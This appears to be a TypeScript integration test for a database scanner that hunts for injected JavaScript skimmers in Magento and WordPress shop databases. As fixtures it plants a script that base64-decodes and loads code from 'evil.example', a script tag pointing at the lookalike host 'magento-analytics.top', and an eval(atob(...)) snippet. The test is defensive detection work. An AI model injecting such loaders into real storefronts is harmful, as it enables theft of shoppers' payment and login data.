// `scan-db` on real databases: a Magento-like MariaDB schema (core_config_data design/head,
// cms_block) and a WordPress-like PostgreSQL one, each with one injected skimmer among clean
// rows; only the injected rows are reported. Each test creates its own database and drops it.
// MariaDB at 127.0.0.1:3306 (root, no password; RIPCORD_TEST_MYSQL overrides); skipped when
// absent outside CI.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import mysql from 'mysql2/promise';
import pg from 'pg';
import { MysqlShopDb } from '../../src/adapters/shopdb/mysql.ts';
import { PostgresShopDb } from '../../src/adapters/shopdb/postgres.ts';
import { scanDatabase, tablesToScan } from '../../src/integrity/scandb.ts';
import { loadCodeRules } from '../../src/integrity/scan/rules.ts';
import { scanDbSchema } from '../../src/core/config/integrity.ts';
import { pgAdminUrl, pgSkip, mysqlAdminUrl, mysqlSkip } from '../helpers/db.ts';

const mysqlUrl = mysqlAdminUrl;
const rules = loadCodeRules();
const skimmer =
  '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvai5qcw==");document.head.appendChild(s);</script>';

test('scan-db finds a skimmer in Magento core_config_data and cms_block on MariaDB', await mysqlSkip(), async () => {
  const name = `ripcord_scan_${randomBytes(5).toString('hex')}`;
  const admin = await mysql.createConnection({ uri: mysqlUrl, multipleStatements: true });
  await admin.query(`CREATE DATABASE ${name}`);
  try {
    await admin.query(`USE ${name};
      CREATE TABLE core_config_data (config_id INT PRIMARY KEY AUTO_INCREMENT, path VARCHAR(255), value TEXT);
      CREATE TABLE cms_block (block_id INT PRIMARY KEY AUTO_INCREMENT, content MEDIUMTEXT);
      CREATE TABLE cms_page (page_id INT PRIMARY KEY AUTO_INCREMENT, content MEDIUMTEXT);`);
    await admin.query(`INSERT INTO ${name}.core_config_data (path, value) VALUES (?, ?), (?, ?), (?, ?)`, [
      'design/head/includes',
      '<link rel="stylesheet" href="{{MEDIA_URL}}styles.css"><script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
      'design/footer/absolute_footer',
      `<p>Harbor &amp; Pine</p><script type="text/javascript" src="https://magento-analytics.top/ga.js"></script>`,
      'web/secure/base_url',
      'https://shop.example/',
    ]);
    // Enough clean blocks to need several batches, one injected among them.
    const blocks: string[] = [];
    for (let i = 0; i < 25; i++)
      blocks.push(i === 17 ? `<div class="promo">Sale</div>${skimmer}` : `<div class="promo">Block ${i}</div>`);
    await admin.query(`INSERT INTO ${name}.cms_block (content) VALUES ${blocks.map(() => '(?)').join(',')}`, blocks);
    const db = await MysqlShopDb.open(`${mysqlUrl.replace(/\/$/, '')}/${name}`);
    try {
      const cfg = scanDbSchema.parse({ preset: 'magento2' });
      const r = await scanDatabase(db, tablesToScan(cfg, 'custom'), rules, { batchSize: 10, maxBytes: 1 << 20 });
      assert.equal(r.tables, 3);
      assert.equal(r.cells, 28);
      assert.deepEqual(r.findings.map((f) => `${f.path} ${f.rule}`).sort(), [
        'cms_block.content#18 js-src-from-base64',
        'core_config_data.value#2 html-script-lookalike-host',
      ]);
    } finally {
      await db.close();
    }
  } finally {
    await admin.query(`DROP DATABASE IF EXISTS ${name}`);
    await admin.end();
  }
});

test('scan-db finds a skimmer in WordPress wp_posts on PostgreSQL', await pgSkip(), async () => {
  const name = `ripcord_scan_${randomBytes(5).toString('hex')}`;
  const admin = new pg.Client({ connectionString: pgAdminUrl });
  await admin.connect();
  await admin.query(`CREATE DATABASE ${name}`);
  const url = new URL(pgAdminUrl);
  url.pathname = `/${name}`;
  try {
    const c = new pg.Client({ connectionString: url.toString() });
    await c.connect();
    await c.query(`CREATE TABLE wp_options (option_id BIGINT PRIMARY KEY, option_name TEXT, option_value TEXT);
      CREATE TABLE wp_posts ("ID" BIGINT PRIMARY KEY, post_content TEXT);`);
    await c.query(
      `INSERT INTO wp_options VALUES (1, 'blogname', 'Shop'), (2, 'widget_text', 'a:1:{i:2;a:1:{s:4:"text";s:5:"Hello";}}')`,
    );
    await c.query(`INSERT INTO wp_posts VALUES (10, '<p>Welcome</p>'), (11, $1), (12, '<p>About us</p>')`, [
      `<p>Checkout</p><script>eval(atob('dmFyIHg9MQ=='))</script>`,
    ]);
    await c.end();
    const db = await PostgresShopDb.open(url.toString());
    try {
      const r = await scanDatabase(db, tablesToScan(scanDbSchema.parse({ preset: 'wordpress' }), 'custom'), rules, {
        batchSize: 2,
        maxBytes: 1 << 20,
      });
      assert.equal(r.tables, 2);
      assert.deepEqual(
        r.findings.map((f) => `${f.path} ${f.rule}`),
        ['wp_posts.post_content#11 js-eval-atob'],
      );
    } finally {
      await db.close();
    }
  } finally {
    await admin.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
    await admin.end();
  }
});
